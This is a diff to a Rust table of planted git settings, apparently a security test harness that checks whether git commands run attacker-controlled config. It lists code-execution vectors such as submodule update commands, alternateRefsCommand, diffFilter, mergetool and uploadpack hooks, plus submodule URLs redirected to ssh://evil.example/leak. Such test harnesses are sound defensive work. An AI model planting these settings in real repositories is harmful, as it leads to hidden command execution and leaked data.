@@ -266,6 +266,7 @@ pub(crate) static PLANTS: &[Plant] = &[
     setting!("submodule.dep.update", "!touch @C@;", "git -C lib/dep checkout -q HEAD~1", "submodule_update"),
     setting!("submodule.dep.url", "ssh://evil.example/leak", "git config -f .gitmodules submodule.dep.url ssh://evil.example/leak
         git config -f .git/modules/dep/config remote.origin.url ssh://evil.example/leak", "submodule_update"),
+    setting!("remote.origin.url", "ssh://git@host.example/x", "printf '[submodule \"dep\"]\\n\\tpath = lib/dep\\n\\turl = ../../evil.example/leak\\n' | put direct .gitmodules", "submodule_update"),
     setting!("core.alternateRefsCommand", "touch @C@; false", "echo $PWD/nested/.git/objects | put direct .git/objects/info/alternates", "fetch"),
     setting!("interactive.diffFilter", "touch @C@; cat", "git config color.ui always", "add_p"),
     setting!("merge.tool", "evil", "git config mergetool.evil.cmd 'touch @C@'", "mergetool"),
@@ -399,8 +400,6 @@ pub(crate) static PLANTS: &[Plant] = &[
     plant("a2: a branch is pushed to a path in a cache that stays",
         "git init -q --bare $K/r@N@.git; for hook in pre-receive update post-receive; do program direct $K/r@N@.git/hooks/$hook @C@; done
          git config branch.main.remote \"src/../$(realpath --relative-to=. $K)/r@N@.git\"", &[(".", "push")]),
-    plant("a5: the relative address of a submodule replaces the host of the remote",
-        "git config remote.origin.url ssh://git@host.example/x; git config -f .gitmodules submodule.dep.url ../../evil.example/leak", &[(".", "submodule_update")]),
     plant("a5: what is missing is served by a program",
         "git config remote.evil.url .; git config remote.evil.promisor true; git config remote.evil.uploadpack 'touch @C@; git-upload-pack'
          git config extensions.partialClone evil; git config core.repositoryformatversion 1
